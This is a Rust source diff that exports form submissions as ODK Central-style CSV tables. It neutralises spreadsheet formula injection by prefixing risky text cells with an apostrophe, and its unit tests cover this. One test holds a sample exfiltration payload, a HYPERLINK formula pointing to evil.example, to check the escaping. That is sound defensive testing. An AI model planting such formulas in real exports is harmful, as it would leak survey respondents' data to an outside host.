@@ -1,0 +1,616 @@
+//! CSV as ODK Central lays it out: one table for the form with a `KEY` column, one per repeat
+//! joined by `PARENT_KEY` and `KEY` (`uuid:…/household[1]`), group paths in headers
+//! (`group-question`), a select_multiple as space-separated names plus one 0/1 column per
+//! option, a geopoint as four columns, dates in ISO 8601.
+//!
+//! Formulas: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a
+//! tab or a carriage return) as a formula, and a formula such as `HYPERLINK` can send the
+//! sheet's contents away when clicked. As OWASP advises against CSV injection, every text cell
+//! that begins with one of these six is written with a `'` in front (`'=HYPERLINK(…)`), which
+//! spreadsheets show as text and people can still read; quoting is then applied as usual.
+//! Text cells are answers of text, select and file questions (names or labels), the headers
+//! and the submitter and version columns. Numbers, dates and geopoint parts are never
+//! prefixed, so a longitude of `-78.5` reads back as a number. A geopoint that is no place on
+//! Earth (`GeoPoint::check` refuses it) leaves its four cells empty; its row stays.
+
+use super::{iso_time, CsvOptions, ExportSubmission};
+use minga_forms::{Answers, Choice, Form, Item, QuestionType, Value};
+use std::borrow::Cow;
+
+/// One CSV file's worth of data.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Table {
+    /// The file stem: the form id, or `formid-repeatname` for a repeat.
+    pub name: String,
+    pub header: Vec<String>,
+    pub rows: Vec<Vec<String>>,
+}
+
+impl Table {
+    /// The table as RFC 4180 CSV text.
+    pub fn to_csv(&self) -> String {
+        let mut out = String::new();
+        for line in std::iter::once(&self.header).chain(&self.rows) {
+            let fields: Vec<Cow<'_, str>> = line.iter().map(|f| quote(f)).collect();
+            out.push_str(&fields.join(","));
+            out.push_str("\r\n");
+        }
+        out
+    }
+}
+
+/// A text cell as a spreadsheet may read it safely: with a `'` in front when it begins with a
+/// character that makes a formula (OWASP's list).
+fn text_cell(text: String) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+/// Quotes a field when it holds a comma, a quote or a line break.
+fn quote(field: &str) -> Cow<'_, str> {
+    if field.contains([',', '"', '\n', '\r']) {
+        Cow::Owned(format!("\"{}\"", field.replace('"', "\"\"")))
+    } else {
+        Cow::Borrowed(field)
+    }
+}
+
+/// Which part of a question's answer a column shows.
+#[derive(Debug, Clone, PartialEq)]
+enum Part {
+    Whole,
+    /// One of a geopoint's four columns: 0 latitude, 1 longitude, 2 altitude, 3 accuracy.
+    Geo(usize),
+    /// The 0/1 column of one option of a select_multiple.
+    Option(String),
+}
+
+#[derive(Debug, Clone, PartialEq)]
+struct Column {
+    header: String,
+    question: String,
+    part: Part,
+    /// The choice list, for selects (to show labels).
+    list: Option<String>,
+}
+
+/// A table's plan: its columns, and for a repeat its name, its XML path below the parent
+/// instance (groups included, as ODK keys are) and its parent table.
+#[derive(Debug, Clone)]
+struct Plan {
+    name: String,
+    repeat: Option<String>,
+    key_path: String,
+    parent: Option<usize>,
+    columns: Vec<Column>,
+}
+
+const GEO_PARTS: [&str; 4] = ["Latitude", "Longitude", "Altitude", "Accuracy"];
+
+fn joined(prefix: &str, separator: &str, name: &str) -> String {
+    if prefix.is_empty() {
+        name.to_string()
+    } else {
+        format!("{prefix}{separator}{name}")
+    }
+}
+
+/// Walks the survey, adding columns to table `table` and a new table for each repeat.
+fn plan_items(
+    form: &Form,
+    items: &[Item],
+    header_prefix: &str,
+    xml_prefix: &str,
+    table: usize,
+    plans: &mut Vec<Plan>,
+) {
+    for item in items {
+        match item {
+            Item::Question(q) => {
+                let header = joined(header_prefix, "-", &q.name);
+                plans[table]
+                    .columns
+                    .extend(question_columns(form, &q.name, &q.kind, &header));
+            }
+            Item::Group(group) => plan_items(
+                form,
+                &group.children,
+                &joined(header_prefix, "-", &group.name),
+                &joined(xml_prefix, "/", &group.name),
+                table,
+                plans,
+            ),
+            Item::Repeat(repeat) => {
+                plans.push(Plan {
+                    name: format!("{}-{}", form.id, repeat.name),
+                    repeat: Some(repeat.name.clone()),
+                    key_path: joined(xml_prefix, "/", &repeat.name),
+                    parent: Some(table),
+                    columns: Vec::new(),
+                });
+                let child = plans.len() - 1;
+                plan_items(form, &repeat.children, "", "", child, plans);
+            }
+        }
+    }
+}
+
+fn question_columns(form: &Form, name: &str, kind: &QuestionType, header: &str) -> Vec<Column> {
+    let column = |header: String, part: Part, list: Option<&String>| Column {
+        header,
+        question: name.to_string(),
+        part,
+        list: list.cloned(),
+    };
+    match kind {
+        QuestionType::Note => vec![],
+        QuestionType::GeoPoint => GEO_PARTS
+            .iter()
+            .enumerate()
+            .map(|(i, part)| column(format!("{header}-{part}"), Part::Geo(i), None))
+            .collect(),
+        QuestionType::SelectMultiple(list) => {
+            let options = form
+                .choices
+                .get(list)
+                .map(Vec::as_slice)
+                .unwrap_or_default();
+            std::iter::once(column(header.to_string(), Part::Whole, Some(list)))
+                .chain(options.iter().map(|c| {
+                    column(
+                        format!("{header}/{}", c.name),
+                        Part::Option(c.name.clone()),
+                        Some(list),
+                    )
+                }))
+                .collect()
+        }
+        QuestionType::SelectOne(list) => vec![column(header.to_string(), Part::Whole, Some(list))],
+        _ => vec![column(header.to_string(), Part::Whole, None)],
+    }
+}
+
+fn plans(form: &Form) -> Vec<Plan> {
+    let mut plans = vec![Plan {
+        name: form.id.clone(),
+        repeat: None,
+        key_path: String::new(),
+        parent: None,
+        columns: Vec::new(),
+    }];
+    plan_items(form, &form.survey, "", "", 0, &mut plans);
+    plans
+}
+
+/// Formats one answer for one column.
+fn cell(form: &Form, column: &Column, value: Option<&Value>, options: &CsvOptions) -> String {
+    let Some(value) = value else {
+        return String::new();
+    };
+    let label = |name: &str| -> String {
+        let choice = column
+            .list
+            .as_ref()
+            .and_then(|l| form.choices.get(l))
+            .and_then(|cs| cs.iter().find(|c| c.name == name));
+        match (&options.labels_in, choice) {
+            (Some(lang), Some(Choice { label, .. })) => label
+                .get(Some(lang), form.default_language.as_deref())
+                .unwrap_or(name)
+                .to_string(),
+            _ => name.to_string(),
+        }
+    };
+    match (&column.part, value) {
+        (Part::Geo(_), Value::GeoPoint(p)) if p.check().is_err() => String::new(),
+        (Part::Geo(i), Value::GeoPoint(p)) => {
+            [Some(p.latitude), Some(p.longitude), p.altitude, p.accuracy][*i]
+                .map(|x| x.to_string())
+                .unwrap_or_default()
+        }
+        (Part::Option(name), Value::Choices(chosen)) => {
+            if chosen.contains(name) { "1" } else { "0" }.to_string()
+        }
+        (Part::Whole, Value::Choices(chosen)) => {
+            let separator = if options.labels_in.is_some() {
+                "; "
+            } else {
+                " "
+            };
+            text_cell(
+                ordered_choices(form, column, chosen)
+                    .iter()
+                    .map(|n| label(n))
+                    .collect::<Vec<_>>()
+                    .join(separator),
+            )
+        }
+        (Part::Whole, Value::Choice(name)) => text_cell(label(name)),
+        (Part::Whole, Value::Text(text)) => text_cell(text.clone()),
+        (Part::Whole, Value::Integer(n)) => n.to_string(),
+        (Part::Whole, Value::Decimal(x)) => x.to_string(),
+        (Part::Whole, Value::Date(d)) => d.format("%Y-%m-%d").to_string(),
+        (Part::Whole, Value::Time(t)) => t.format("%H:%M:%S%.3f").to_string(),
+        (Part::Whole, Value::DateTime(t)) => t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
+        (Part::Whole, Value::Attachment(file)) => text_cell(file.file_name.clone()),
+        // A value of another type than the column expects (the form changed): show it whole,
+        // as the JSON text it is.
+        (_, other) => text_cell(super::plain_value(other).to_string()),
+    }
+}
+
+/// The chosen options in the form's choice order (then any unknown ones), as ODK lists them.
+fn ordered_choices<'a>(
+    form: &'a Form,
+    column: &Column,
+    chosen: &'a std::collections::BTreeSet<String>,
+) -> Vec<&'a str> {
+    let listed: Vec<&str> = column
+        .list
+        .as_ref()
+        .and_then(|l| form.choices.get(l))
+        .map(|cs| {
+            cs.iter()
+                .map(|c| c.name.as_str())
+                .filter(|n| chosen.contains(*n))
+                .collect()
+        })
+        .unwrap_or_default();
+    let unknown = chosen
+        .iter()
+        .map(String::as_str)
+        .filter(|n| !listed.contains(n));
+    listed.iter().copied().chain(unknown).collect()
+}
+
+fn answer_cells(form: &Form, plan: &Plan, answers: &Answers, options: &CsvOptions) -> Vec<String> {
+    plan.columns
+        .iter()
+        .map(|c| cell(form, c, answers.value(&c.question), options))
+        .collect()
+}
+
+/// Adds the rows of every repeat table below `table` for one instance's answers.
+fn emit_repeats(
+    form: &Form,
+    plans: &[Plan],
+    table: usize,
+    answers: &Answers,
+    key: &str,
+    options: &CsvOptions,
+    out: &mut [Table],
+) {
+    for (child, plan) in plans
+        .iter()
+        .enumerate()
+        .filter(|(_, p)| p.parent == Some(table))
+    {
+        let Some(repeat) = &plan.repeat else { continue };
+        for (n, instance) in answers.instances(repeat).iter().enumerate() {
+            let instance_key = format!("{key}/{}[{}]", plan.key_path, n + 1);
+            let mut row = answer_cells(form, plan, &instance.answers, options);
+            row.extend([key.to_string(), instance_key.clone()]);
+            out[child].rows.push(row);
+            emit_repeats(
+                form,
+                plans,
+                child,
+                &instance.answers,
+                &instance_key,
+                options,
+                out,
+            );
+        }
+    }
+}
+
+/// The columns ODK Central puts around a submission's answers.
+const LEADING: [&str; 1] = ["SubmissionDate"];
+const TRAILING: [&str; 7] = [
+    "meta-instanceID",
+    "SubmitterID",
+    "SubmitterName",
+    "ReviewState",
+    "FormVersion",
+    "UpdatedAt",
+    "KEY",
+];
+
+/// Every table of the export: the form's first, then one per repeat in form order.
+pub fn tables(form: &Form, submissions: &[ExportSubmission], options: &CsvOptions) -> Vec<Table> {
+    let plans = plans(form);
+    let mut out: Vec<Table> = plans
+        .iter()
+        .map(|plan| {
+            let answers = plan.columns.iter().map(|c| c.header.clone());
+            let header: Vec<String> = if plan.parent.is_none() {
+                LEADING
+                    .iter()
+                    .map(|h| h.to_string())
+                    .chain(answers)
+                    .chain(TRAILING.iter().map(|h| h.to_string()))
+                    .collect()
+            } else {
+                answers
+                    .chain(["PARENT_KEY".to_string(), "KEY".to_string()])
+                    .collect()
+            };
+            Table {
+                name: plan.name.clone(),
+                header: header.into_iter().map(text_cell).collect(),
+                rows: Vec::new(),
+            }
+        })
+        .collect();
+    for submission in submissions {
+        let key = submission.key();
+        let mut row = vec![iso_time(&submission.created_at)];
+        row.extend(answer_cells(form, &plans[0], &submission.answers, options));
+        row.extend([
+            key.clone(),
+            text_cell(submission.author.clone()),
+            text_cell(submission.author_name.clone()),
+            submission
+                .review_state
+                .map(|state| state.as_str().to_string())
+                .unwrap_or_default(),
+            text_cell(submission.form_version.clone()),
+            iso_time(&submission.updated_at),
+            key.clone(),
+        ]);
+        out[0].rows.push(row);
+        emit_repeats(
+            form,
+            &plans,
+            0,
+            &submission.answers,
+            &key,
+            options,
+            &mut out,
+        );
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::api::export::fixtures;
+    use minga_forms::GeoPoint;
+
+    fn column<'a>(table: &'a Table, header: &str) -> Vec<&'a str> {
+        let i = table
+            .header
+            .iter()
+            .position(|h| h == header)
+            .unwrap_or_else(|| panic!("no column {header}"));
+        table.rows.iter().map(|row| row[i].as_str()).collect()
+    }
+
+    #[test]
+    fn the_form_table_has_odk_headers_in_form_order_with_key_last() {
+        let tables = tables(
+            &fixtures::form(),
+            &fixtures::submissions(),
+            &CsvOptions::default(),
+        );
+        assert_eq!(
+            tables.iter().map(|t| t.name.as_str()).collect::<Vec<_>>(),
+            ["safety_walk", "safety_walk-household"]
+        );
+        let main = &tables[0];
+        assert_eq!(
+            main.header[..14],
+            [
+                "SubmissionDate",
+                "start",
+                "who-respondent",
+                "who-age",
+                "who-visit_date",
+                "location-Latitude",
+                "location-Longitude",
+                "location-Altitude",
+                "location-Accuracy",
+                "concerns",
+                "concerns/theft",
+                "concerns/extortion",
+                "concerns/gangs",
+                "feels_safe"
+            ]
+        );
+        assert_eq!(main.header.last().map(String::as_str), Some("KEY"));
+        assert!(
+            !main.header.iter().any(|h| h.contains("note_intro")),
+            "notes hold no data"
+        );
+        assert_eq!(main.rows.len(), 2);
+        assert_eq!(
+            column(main, "KEY"),
+            [
+                "uuid:0b6f3a52-0000-4000-8000-000000000001",
+                "uuid:0b6f3a52-0000-4000-8000-000000000002"
+            ]
+        );
+    }
+
+    #[test]
+    fn values_are_formatted_as_analysts_expect() {
+        let main = &tables(
+            &fixtures::form(),
+            &fixtures::submissions(),
+            &CsvOptions::default(),
+        )[0];
+        assert_eq!(
+            column(main, "SubmissionDate")[0],
+            "2026-11-03T15:04:05.000Z"
+        );
+        assert_eq!(column(main, "who-visit_date"), ["2026-11-03", ""]);
+        assert_eq!(column(main, "who-age"), ["47", ""]);
+        assert_eq!(
+            column(main, "concerns"),
+            ["theft gangs", ""],
+            "names in the form's choice order"
+        );
+        assert_eq!(column(main, "concerns/theft"), ["1", ""]);
+        assert_eq!(column(main, "concerns/extortion"), ["0", ""]);
+        assert_eq!(column(main, "location-Latitude"), ["-0.2299", ""]);
+        assert_eq!(column(main, "location-Accuracy"), ["4.5", ""]);
+        assert_eq!(column(main, "ReviewState"), ["approved", ""]);
+    }
+
+    #[test]
+    fn repeats_get_their_own_table_joined_by_keys() {
+        let repeat = &tables(
+            &fixtures::form(),
+            &fixtures::submissions(),
+            &CsvOptions::default(),
+        )[1];
+        assert_eq!(
+            repeat.header,
+            [
+                "member_name",
+                "member_details-member_role",
+                "PARENT_KEY",
+                "KEY"
+            ]
+        );
+        let parent = "uuid:0b6f3a52-0000-4000-8000-000000000001";
+        assert_eq!(column(repeat, "PARENT_KEY"), [parent, parent]);
+        assert_eq!(
+            column(repeat, "KEY"),
+            [
+                format!("{parent}/household[1]"),
+                format!("{parent}/household[2]")
+            ]
+        );
+        assert_eq!(column(repeat, "member_name"), ["Rosa", "Luis"]);
+    }
+
+    #[test]
+    fn labels_replace_names_when_asked() {
+        let options = CsvOptions {
+            labels_in: Some("Español (es)".into()),
+        };
+        let main = &tables(&fixtures::form(), &fixtures::submissions(), &options)[0];
+        assert_eq!(column(main, "concerns")[0], "Robo; Pandillas");
+        assert_eq!(
+            column(main, "feels_safe")[0],
+            "No",
+            "falls back to the default language"
+        );
+    }
+
+    #[test]
+    fn csv_text_quotes_commas_and_quotes() {
+        let csv = tables(
+            &fixtures::form(),
+            &fixtures::submissions(),
+            &CsvOptions::default(),
+        )[0]
+        .to_csv();
+        assert!(csv.contains(",\"Rosa, \"\"la tía\"\"\","), "{csv}");
+        assert_eq!(csv.lines().count(), 3);
+    }
+
+    fn set(submission: &mut ExportSubmission, name: &str, value: Value) {
+        submission
+            .answers
+            .fields
+            .insert(name.into(), minga_forms::Answer::Value(value));
+    }
+
+    #[test]
+    fn text_cells_that_a_spreadsheet_would_run_get_a_leading_quote() {
+        let mut submissions = fixtures::submissions();
+        let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
+        set(
+            &mut submissions[0],
+            "respondent",
+            Value::Text(formula.into()),
+        );
+        set(
+            &mut submissions[0],
+            "feels_safe",
+            Value::Choice("@SUM(1)".into()),
+        );
+        submissions[0].author_name = "-Ana".into();
+        submissions[0].form_version = "+1".into();
+        for (n, start) in ["\tx", "\rx"].into_iter().enumerate() {
+            let mut more = submissions[1].clone();
+            more.id = format!("0b6f3a52-0000-4000-8000-00000000001{n}");
+            set(&mut more, "respondent", Value::Text(start.into()));
+            submissions.push(more);
+        }
+        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
+        assert_eq!(
+            column(main, "who-respondent"),
+            [
+                format!("'{formula}"),
+                "Pedro".into(),
+                "'\tx".into(),
+                "'\rx".into()
+            ]
+        );
+        assert_eq!(column(main, "feels_safe")[0], "'@SUM(1)", "a choice name");
+        assert_eq!(column(main, "SubmitterName")[0], "'-Ana");
+        assert_eq!(column(main, "FormVersion")[0], "'+1");
+        let csv = main.to_csv();
+        assert!(
+            csv.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\","),
+            "quoted as usual after the prefix: {csv}"
+        );
+    }
+
+    #[test]
+    fn choice_labels_are_neutralised_too() {
+        let form: Form = serde_json::from_str(
+            &include_str!("../../../tests/data/safety_walk.json")
+                .replace("\"English (en)\": \"No\"", "\"English (en)\": \"=1+1\""),
+        )
+        .unwrap();
+        let options = CsvOptions {
+            labels_in: Some("English (en)".into()),
+        };
+        let main = &tables(&form, &fixtures::submissions(), &options)[0];
+        assert_eq!(column(main, "feels_safe")[0], "'=1+1");
+    }
+
+    #[test]
+    fn numbers_dates_and_geopoint_parts_are_never_prefixed() {
+        let mut submissions = fixtures::submissions();
+        set(&mut submissions[0], "age", Value::Integer(-5));
+        set(
+            &mut submissions[0],
+            "location",
+            Value::GeoPoint(GeoPoint {
+                latitude: -0.25,
+                longitude: -78.5,
+                altitude: Some(-12.0),
+                accuracy: Some(3.0),
+            }),
+        );
+        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
+        assert_eq!(column(main, "who-age")[0], "-5");
+        assert_eq!(column(main, "location-Latitude")[0], "-0.25");
+        assert_eq!(column(main, "location-Longitude")[0], "-78.5");
+        assert_eq!(column(main, "location-Altitude")[0], "-12");
+        assert!(main.to_csv().contains(",-0.25,-78.5,-12,3,"));
+    }
+
+    #[test]
+    fn a_point_that_is_no_place_keeps_its_row_with_empty_geopoint_cells() {
+        let submissions = fixtures::impossibly_located();
+        let main = &tables(&fixtures::form(), &submissions, &CsvOptions::default())[0];
+        assert_eq!(main.rows.len(), submissions.len(), "every row stays");
+        for part in ["Latitude", "Longitude", "Altitude", "Accuracy"] {
+            let cells = column(main, &format!("location-{part}"));
+            assert!(cells.iter().all(|c| c.is_empty()), "{part}: {cells:?}");
+        }
+        assert!(column(main, "who-respondent")
+            .iter()
+            .all(|r| r.starts_with("Rosa")));
+    }
+}
